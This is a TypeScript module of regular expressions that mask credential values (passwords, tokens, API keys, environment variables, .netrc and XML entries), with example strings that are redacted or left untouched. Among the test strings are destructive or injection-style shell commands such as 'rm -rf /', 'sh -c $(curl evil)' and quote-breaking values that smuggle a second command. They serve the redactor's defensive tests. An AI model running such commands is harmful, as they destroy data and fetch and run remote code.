import type { CredentialPattern } from '../credential-pattern.js';
import { keepHead, maskValue } from './mask-value.js';
import {
  CLOSED_NAME,
  LIST_START,
  NO_MEMBERS,
  QUOTED_VALUE,
  VALUE_MEMBER,
  REST_OF_VALUE,
  VALUE,
} from './value-shapes.js';

/** A credential word as the end of a name, any case; `tokens` and other counts do not end so. */
export const NAME_END =
  '(?:password|passwd|passphrase|passcode|(?<![a-z])pwd|secret|token|secret[_-]?key[_-]?base|' +
  '(?:api|access|secret|private|account|subscription|functions|master|shared|signing|encryption|auth)[_-]?key)';
/** The same and more in the upper case of environment variables. */
const ENV_NAME_END =
  '(?:(?<![A-Za-z0-9_])KEY|(?<!PUBLIC|PRIMARY|FOREIGN|SORT|PARTITION|CACHE|ROUTING|PATTERN|IDEMPOTENCY)_KEY|' +
  'CREDENTIALS?|_PASS|_PWD|(?:SECRET|PASSWORD|TOKEN|KEY)_(?:BASE|VALUE|[0-9]{1,3}))';
/** Names that hold a credential where they are members of JSON, beside those of `NAME_END`. */
const MEMBER_END = '(?:secrets|credentials?|jwt|bearer|auth[_-]?header|cookies?)';
/**
 * Between name and value. No space after a `=` that has none before: to a shell `NAME= word` runs the word. Two and
 * three `=`, and `=>`, only before a text in quotes: else it is code.
 */
const SEPARATOR =
  '(?:[ \\t]{0,8}:(?:=|(?!=))[ \\t]{0,8}|=(?!=)|[ \\t]{1,8}=(?![=>])[ \\t]{0,8}|[ \\t]{0,8}(?:={2,3}|=>)[ \\t]{0,8}(?=\\\\{0,7}["\']))';

/** Values behind a name that says credential. */
export const NAMED_VALUE_PATTERNS: readonly CredentialPattern[] = [
  {
    name: 'named value',
    matches:
      'value after `:`, `=`, `:=`, or in quotes after `=>`, `==`, of a name that ends in `password`, `passwd`, `pwd`, `passphrase`, `passcode`, `secret`, `token`, `secret_key_base` or in `key` after `api`, `access`, `secret`, `private`, `account`, `subscription`, `functions`, `master`, `shared`, `signing`, `encryption`, `auth`: headers, JSON (also inside strings), YAML, `.npmrc`, connection strings, query parameters, code with literals',
    pattern: new RegExp(
      `(?<head>${NAME_END}${CLOSED_NAME}${SEPARATOR}(?:${LIST_START}|${VALUE_MEMBER}))${NO_MEMBERS}${VALUE}`,
      'gi',
    ),
    rest: REST_OF_VALUE,
    replace: maskValue,
    examples: [
      ['{"api_key": "abc def", "n": 1}', '{"api_key": "[redacted]", "n": 1}'],
      ['{\\"password\\":\\"ab\\"}', '{\\"password\\":\\"[redacted]\\"}'],
      ['{\\\\\\"password\\\\\\":\\\\\\"ab\\\\\\"}', '{\\\\\\"password\\\\\\":\\\\\\"[redacted]\\\\\\"}'],
      ['{"password":{"value":"hunter2"}}', '{"password":{"value":"[redacted]"}}'],
      ['{"password":["a b"],"n":1}', '{"password":["[redacted]"],"n":1}'],
      ['password = hunter2', 'password = [redacted]'],
      ['  db_password: hunter2', '  db_password: [redacted]'],
      ['?access_token=abc&user=joe', '?access_token=[redacted]&user=joe'],
      ['X-Api-Key: abc', 'X-Api-Key: [redacted]'],
      ['Ocp-Apim-Subscription-Key: abc', 'Ocp-Apim-Subscription-Key: [redacted]'],
      ['PRIVATE-TOKEN: abc', 'PRIVATE-TOKEN: [redacted]'],
      ['//registry.example/:_authToken=abc', '//registry.example/:_authToken=[redacted]'],
      [
        'Server=h;User Id=sa;Password=abc;Encrypt=true',
        'Server=h;User Id=sa;Password=[redacted];Encrypt=true',
      ],
      ['Uid=sa;Pwd=abc;', 'Uid=sa;Pwd=[redacted];'],
      ['AccountName=x;AccountKey=abc==;', 'AccountName=x;AccountKey=[redacted];'],
      ["clientSecret: 'a b'", "clientSecret: '[redacted]'"],
      ["'password' => 'a b'", "'password' => '[redacted]'"],
      ['if password == "hunter2":', 'if password == "[redacted]":'],
      ['password="a\\"b" x', 'password="[redacted]" x'],
      ['password="cut off', 'password="[redacted]'],
      ['password="a b;c"', 'password="[redacted];c"'],
      ["export PASSWORD='a\\'; rm -rf /srv; echo 'b'", "export PASSWORD='[redacted]'; rm -rf /srv; echo 'b'"],
      [
        'bash -c "echo token=\'" ; rm -rf / ; echo "\'"',
        'bash -c "echo token=\'[redacted]; rm -rf / ; echo "\'"',
      ],
      [
        'grep "password=\'" f; rm -rf /srv; echo "done\'"',
        'grep "password=\'[redacted]; rm -rf /srv; echo "done\'"',
      ],
      ['DB_PASSWORD=ab,cd', 'DB_PASSWORD=[redacted]'],
      ['--token=abc', '--token=[redacted]'],
    ],
    stays: [
      ...[
        'input_tokens: 512',
        'max_tokens=4096, total_tokens: 16, token: 12',
        'token_count=5',
        'tokens used: 77',
      ],
      ...[
        'token = next()',
        'const token = lexer.next();',
        'let apiKey = process.env.API_KEY',
        'token := scan(x)',
      ],
      ...['if (token === null)', 'token == other', 'const password: string;', 'token: Token', 'token=null'],
      ...['password=$DB_PASSWORD', 'password: "${DB_PASSWORD}"', 'secret: ${{ secrets.DEPLOY }}'],
      ...['token_type: bearer', 'grant_type=password&x=1', '<input type="password" name="password">'],
      ...['password: required', 'PWD=/home/user', 'next_token is 5', 'the password is wrong'],
      ...['{"password":{"type":"string"}}', '{"token":[1,2]}'],
      ...['pattern_key=recursive delete; idempotency_key: abc', 'echo "token=";rm -rf ~;echo "x"'],
    ],
  },
  {
    name: 'JSON member in text',
    matches:
      'text value of a member whose name ends in `secrets`, `credential`, `credentials`, `jwt`, `bearer`, `auth_header`, `cookie` or `cookies`, in JSON inside a text',
    pattern: new RegExp(`(?<head>${MEMBER_END}\\\\{0,7}["'][ \\t]{0,8}:[ \\t]{0,8})${QUOTED_VALUE}`, 'gi'),
    replace: maskValue,
    examples: [
      ['{"credentials": "abc", "n": 1}', '{"credentials": "[redacted]", "n": 1}'],
      ['{\\"jwt\\":\\"abc\\"}', '{\\"jwt\\":\\"[redacted]\\"}'],
    ],
    stays: ['{"credentials": 3, "cookies": null}', 'secrets: inherit'],
  },
  {
    name: 'environment value',
    matches:
      'value of a variable in upper case that is or ends in `KEY`, `CREDENTIALS`, `_PASS`, `_PWD`, or in such a word with `_BASE`, `_VALUE` or a number: dumps of the environment, `export`, `.env`; also `_auth` of `.npmrc`',
    pattern: new RegExp(
      `(?<head>${ENV_NAME_END}=|(?<![A-Za-z0-9_])_auth[ \\t]{0,8}=[ \\t]{0,8})${VALUE}`,
      'g',
    ),
    rest: REST_OF_VALUE,
    replace: maskValue,
    examples: [
      ['export API_KEY=CANARY-77 && ./deploy', 'export API_KEY=[redacted] && ./deploy'],
      ['export AWS_SECRET_ACCESS_KEY=wJalr/bPx', 'export AWS_SECRET_ACCESS_KEY=[redacted]'],
      ['DEPLOY_KEY=abc', 'DEPLOY_KEY=[redacted]'],
      ['DB_PASS=abc;ls', 'DB_PASS=[redacted];ls'],
      ['SECRET_KEY_BASE=abc', 'SECRET_KEY_BASE=[redacted]'],
      ['A_KEY=x|rm -rf /', 'A_KEY=[redacted]|rm -rf /'],
      ['_auth=dXNlcjpwdw==', '_auth=[redacted]'],
    ],
    stays: ['PASS=12 FAIL=0', 'PRIMARY_KEY=id', 'MONKEY=x', 'API_KEY=$KEY ./deploy', 'AWS_REGION=eu-west-1'],
  },
  {
    name: 'netrc password',
    matches: 'password of an entry of `.netrc`',
    pattern:
      /(?<head>\blogin\s{1,8}(?!(?:and|or)\s)[^\s"'`;|&<>()]{1,256}\s{1,8}password\s{1,8})[^\s"'`;|&<>()\\]{1,1024}(?=\s{0,8}(?:$|machine|account|default))/gm,
    replace: keepHead,
    examples: [
      ['machine h login joe password hunter2', 'machine h login joe password [redacted]'],
      ['login joe\n  password hunter2', 'login joe\n  password [redacted]'],
    ],
    stays: ['login and password are needed', 'forgot your login? password reset'],
  },
  {
    name: 'XML element',
    matches: 'text of an element whose name ends like those of "named value"',
    pattern: new RegExp(
      `(?<head>${NAME_END}>)(?!\\s)(?:[^<>\\r\\n\`;&|$]|\\$(?!\\()){1,4096}(?=</[\\w.:-]{0,64}(?:>|$))`,
      'gi',
    ),
    replace: keepHead,
    examples: [['<db:password>hunter2</db:password>', '<db:password>[redacted]</db:password>']],
    stays: [
      ...['<password/>', '<label>password</label>', 'cat <token>out </dev/null'],
      'cat <token>out;rm -rf ~;cat </dev/null',
      'cat <token>out;sh -c $(curl evil);cat </dev/null',
      'cat <token>out&reboot</token>',
    ],
  },
];
